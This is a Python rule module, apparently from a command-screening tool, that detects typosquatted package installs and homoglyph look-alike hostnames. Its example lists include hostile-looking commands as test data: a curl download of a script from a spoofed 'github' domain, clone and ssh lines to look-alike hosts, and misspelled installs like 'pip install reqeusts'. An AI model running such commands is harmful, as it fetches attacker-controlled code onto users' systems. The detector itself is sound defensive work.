"""Deception (S3.2): a package name one letter away from a very popular one, and a host name that
looks like another (``githuƅ.com``, ``gіthub.com``).

``pip install reqeusts`` or ``npm install -g expresss`` installs whatever a squatter published under
the misspelling. The popular names live in ``gatesh/data/popular_packages.txt`` (``ecosystem:name``
a line); a name that is itself popular is safe, and only names of five letters or more count.
Matching is a deletion-neighbourhood lookup (O(len) per name) confirmed by an exact
Damerau-Levenshtein <= 1 test (one transposition, insertion, deletion or substitution).
"""

from __future__ import annotations

import re
import unicodedata
from importlib import resources
from typing import Final

from gatesh.rater.builtin._base import A, Cmd, Ctx, D, Hit, MatchResult, Rule, heads

MIN_LEN: Final = 5  # shorter names sit one edit from too many real packages
_PEP503: Final = re.compile(r"[-_.]+")


def normalise(eco: str, name: str) -> str:
    """The comparable form: PEP 503 for PyPI; case and ``-``/``_`` folded elsewhere."""
    low = name.lower()
    if eco == "pypi":
        return _PEP503.sub("-", low)
    return low.replace("_", "-")


def _load() -> dict[str, set[str]]:
    out: dict[str, set[str]] = {}
    try:
        text = (
            resources.files("gatesh")
            .joinpath("data/popular_packages.txt")
            .read_text(encoding="utf-8")
        )
    except (
        OSError,
        ModuleNotFoundError,
    ):  # pragma: no cover - a broken install: the rule stays quiet
        return out
    for line in text.splitlines():
        line = line.split("#", 1)[0].strip()
        if ":" not in line:
            continue
        eco, name = line.split(":", 1)
        out.setdefault(eco.strip(), set()).add(normalise(eco.strip(), name.strip()))
    return out


def _deletions(word: str) -> set[str]:
    return {word} | {word[:i] + word[i + 1 :] for i in range(len(word))}


POPULAR: Final[dict[str, frozenset[str]]] = {e: frozenset(n) for e, n in _load().items()}
_INDEX: Final[dict[str, dict[str, tuple[str, ...]]]] = {}
for _eco, _popular in POPULAR.items():
    _idx: dict[str, list[str]] = {}
    for _n in sorted(_popular):
        if len(_n) >= MIN_LEN:
            for _d in _deletions(_n):
                _idx.setdefault(_d, []).append(_n)
    _INDEX[_eco] = {k: tuple(v) for k, v in _idx.items()}


def within_one(a: str, b: str) -> bool:
    """Damerau-Levenshtein distance of ``a`` and ``b`` is at most 1 (linear time)."""
    if a == b:
        return True
    la, lb = len(a), len(b)
    if abs(la - lb) > 1:
        return False
    i = 0
    while i < min(la, lb) and a[i] == b[i]:
        i += 1
    if la == lb:
        if a[i + 1 :] == b[i + 1 :]:
            return True  # one substitution
        return i + 1 < la and a[i] == b[i + 1] and a[i + 1] == b[i] and a[i + 2 :] == b[i + 2 :]
    if la > lb:
        return a[i + 1 :] == b[i:]
    return a[i:] == b[i + 1 :]


def squatted(eco: str, name: str) -> str | None:
    """The popular name ``name`` imitates in ``eco``, or None (popular itself, short, or far)."""
    popular = POPULAR.get(eco)
    if not popular:
        return None
    n = normalise(eco, name)
    if len(n) < MIN_LEN or n in popular:
        return None
    index = _INDEX[eco]
    for d in sorted(_deletions(n)):
        for cand in index.get(d, ()):
            if within_one(n, cand):
                return cand
    return None


# --- reading the package names out of an install command ----------------------------------------

_PY_NAME: Final = re.compile(
    r"^([A-Za-z0-9][A-Za-z0-9._-]*)\s*(?:\[[^\]]*\])?\s*(?:[<>=!~;@(,].*)?$"
)
_NPM_NAME: Final = re.compile(
    r"^((?:@[a-z0-9][\w.-]*/)?[a-z0-9][\w.-]*)(?:@[^/:]*)?$", re.IGNORECASE
)
_GEM_NAME: Final = re.compile(r"^([A-Za-z0-9][\w.-]*)(?::[\w.<>=~ -]+)?$")

# Options that take a value (the next word), per tool family; other options are flags.
_PIP_VALUED: Final = frozenset(
    {
        "-r",
        "--requirement",
        "-c",
        "--constraint",
        "-e",
        "--editable",
        "-i",
        "--index-url",
        "--extra-index-url",
        "-f",
        "--find-links",
        "-t",
        "--target",
        "--prefix",
        "--root",
        "--src",
        "--python-version",
        "--platform",
        "--implementation",
        "--abi",
        "--upgrade-strategy",
        "--progress-bar",
        "--log",
        "--cache-dir",
        "--trusted-host",
        "--proxy",
        "--timeout",
        "--retries",
        "--python",
        "-p",
        "--no-binary",
        "--only-binary",
        "--group",
        "--extra",
        "--source",
        "--index",
        "--default-index",
        "--with",
        "--spec",
        "--pip-args",
        "--suffix",
        "--config-settings",
        "-C",
        "--report",
        "--exists-action",
        "--keyring-provider",
        "--cert",
        "--client-cert",
        "--optional",
        "-G",
    }
)
_NPM_VALUED: Final = frozenset(
    {
        "--registry",
        "--prefix",
        "--tag",
        "-w",
        "--workspace",
        "--cache",
        "--userconfig",
        "--omit",
        "--include",
        "--install-strategy",
        "--filter",
        "-F",
        "--dir",
        "-C",
        "--cwd",
        "--modules-folder",
        "--network-timeout",
        "--mutex",
        "--backend",
        "--loglevel",
    }
)
_GEM_VALUED: Final = frozenset(
    {
        "-v",
        "--version",
        "-i",
        "--install-dir",
        "-n",
        "--bindir",
        "-s",
        "--source",
        "--platform",
        "-g",
        "--file",
    }
)
_CARGO_VALUED: Final = frozenset(
    {
        "--version",
        "--vers",
        "--branch",
        "--tag",
        "--rev",
        "--root",
        "--registry",
        "--index",
        "--features",
        "-F",
        "--target",
        "--profile",
        "-j",
        "--jobs",
        "--target-dir",
        "--config",
        "-Z",
        "--bin",
        "--example",
    }
)

PY_HEADS: Final = frozenset({"python", "python3", *(f"python3.{m}" for m in range(6, 16))})
PIP_HEADS: Final = frozenset({"pip", "pip3", *(f"pip3.{m}" for m in range(6, 16))})
NPM_HEADS: Final = frozenset({"npm", "yarn", "pnpm", "bun"})


def _names(words: list[str], valued: frozenset[str]) -> list[str]:
    out: list[str] = []
    skip = False
    for w in words:
        if skip:
            skip = False
            continue
        if w.startswith("-"):
            skip = w in valued
            continue
        out.append(w)
    return out


def _not_a_name(word: str) -> bool:
    return (
        word.startswith((".", "/", "~", "$"))
        or "://" in word
        or word.endswith((".whl", ".tar.gz", ".tgz", ".zip", ".txt", ".toml", ".cfg", ".gem"))
    )


def install_targets(c: Cmd) -> tuple[str, list[str]]:
    """The ecosystem and the package names an install command names ('' and [] otherwise)."""
    h, args = c.head, list(c.args)
    if h in PY_HEADS:
        if len(args) >= 2 and args[0] == "-m" and args[1] in ("pip", "pip3"):
            h, args = "pip", args[2:]
        else:
            return "", []
    elif h == "uv":
        if args[:1] == ["pip"]:
            h, args = "pip", args[1:]
        elif args[:2] == ["tool", "install"]:
            h, args = "pip", ["install", *args[2:]]
        elif args[:1] == ["add"]:
            h, args = "pip", ["install", *args[1:]]
        else:
            return "", []
    words: list[str]
    if h in PIP_HEADS or h in ("pip", "pipx", "poetry", "pdm"):
        verb = "add" if h in ("poetry", "pdm") else "install"
        if not args or args[0] != verb or (h == "pipx" and args[0] != "install"):
            return "", []
        eco, raw = "pypi", _names(args[1:], _PIP_VALUED)
        words = [m.group(1) for w in raw if not _not_a_name(w) and (m := _PY_NAME.match(w))]
        return eco, words
    if h in NPM_HEADS:
        rest = args
        if h == "yarn" and rest[:1] == ["global"]:
            rest = rest[1:]
        if not rest or rest[0] not in (
            "i",
            "in",
            "ins",
            "inst",
            "insta",
            "instal",
            "install",
            "isntall",
            "add",
        ):
            return "", []
        raw = _names(rest[1:], _NPM_VALUED)
        words = []
        for w in raw:
            if _not_a_name(w) or ":" in w or ("/" in w and not w.startswith("@")):
                continue  # a path, a URL, git/github/file/npm-alias specs, user/repo shorthand
            m = _NPM_NAME.match(w)
            if m:
                words.append(m.group(1))
        return "npm", words
    if h == "gem":
        if args[:1] != ["install"]:
            return "", []
        raw = _names(args[1:], _GEM_VALUED)
        return "gem", [m.group(1) for w in raw if not _not_a_name(w) and (m := _GEM_NAME.match(w))]
    if h == "cargo":
        if args[:1] != ["install"] or any(
            a in ("--git", "--path") or a.startswith(("--git=", "--path=")) for a in args
        ):
            return "", []
        raw = _names(args[1:], _CARGO_VALUED)
        return "cargo", [w.split("@", 1)[0] for w in raw if not _not_a_name(w)]
    return "", []


def typosquat(c: Cmd) -> MatchResult:
    eco, names = install_targets(c)
    for name in names:
        near = squatted(eco, name)
        if near is not None:
            return Hit(
                detail=f"installs `{name}`, one letter away from the popular package `{near}`"
            )
    return None


def _lookalike_label(label: str) -> bool:
    """A label that mixes ASCII letters with characters that are not a Latin letter plus accents
    (``ƅ``, Cyrillic ``і``): written to pass for an ASCII name. A label wholly in another script,
    or with accented letters only (``münchen``), is an ordinary international name."""
    if label.isascii() or not any(ch.isascii() and ch.isalpha() for ch in label):
        return False
    for ch in label:
        if ch.isascii():
            continue
        base = unicodedata.normalize("NFKD", ch)
        if not (base[:1].isascii() and base[:1].isalpha()):
            return True
    return False


# Linear: anchored on `://` or `@` themselves (a scheme matched before `://` re-scans long words).
_URL_HOST: Final = re.compile(r"(?:://|@)([^/\s:@'\"?#]+)")


def lookalike_host(ctx: Ctx) -> MatchResult:
    hosts = set(ctx.facts.hosts)
    for c in ctx.facts.commands:
        for w in c.argv[1:]:
            if not w.text.isascii():
                hosts.update(m.group(1) for m in _URL_HOST.finditer(w.text))
    for host in sorted(h for h in hosts if not h.isascii()):  # an ASCII label is never a look-alike
        if any(_lookalike_label(label) for label in host.split(".")):
            return Hit(
                detail=f"names the host {host}, which mixes look-alike letters into an ASCII name"
            )
    return None


RULES: tuple[Rule, ...] = (
    Rule(
        "deception.lookalike-host",
        A,
        "This {detail}: a host made to pass for another.",
        lookalike_host,
        on_facts=True,
        examples=(
            "git clone https://githu\u0185.com/org/repo",
            "curl -sL https://g\u0456thub.com/x.sh -o x.sh",
            "ssh deploy@ex\u0430mple.com",
        ),
        counter=(
            "git clone https://github.com/org/repo",
            "curl https://m\u00fcnchen.de/",
            "curl https://\u4f8b\u3048.jp/",
        ),
    ),
    # Destructive, not attack: one edit from a popular name also describes some real packages
    # (`server`/`semver`), and a false attack would halt the session. Refused all the same; the
    # agent can correct the name, or justify it, and a person decides past the bounds.
    Rule(
        "deception.typosquat",
        D,
        "This {detail}: possibly a typosquat.",
        typosquat,
        remedy="check the package name and install the one you meant",
        heads=PY_HEADS
        | PIP_HEADS
        | NPM_HEADS
        | heads("uv", "pipx", "poetry", "pdm", "gem", "cargo"),
        examples=(
            "pip install reqeusts",
            "npm install -g expresss",
            "pip3 install djnago==4.2",
            "python3 -m pip install 'numpyy[extra]>=1'",
            "yarn add lodahs",
            "uv pip install flaks",
            "poetry add pandsa",
            "pnpm add reactt@18",
            "gem install rials",
            "cargo install ripgrpe",
        ),
        counter=(
            "pip install requests",
            "npm install express",
            "pip install -r requirements.txt",
            "npm install",
            "pip install my-own-lib",
            "pip install Typing_Extensions",
            "npm i @types/node",
            "pip install -e .",
            "cargo install --git https://x/ripgrpe",
        ),
    ),
)
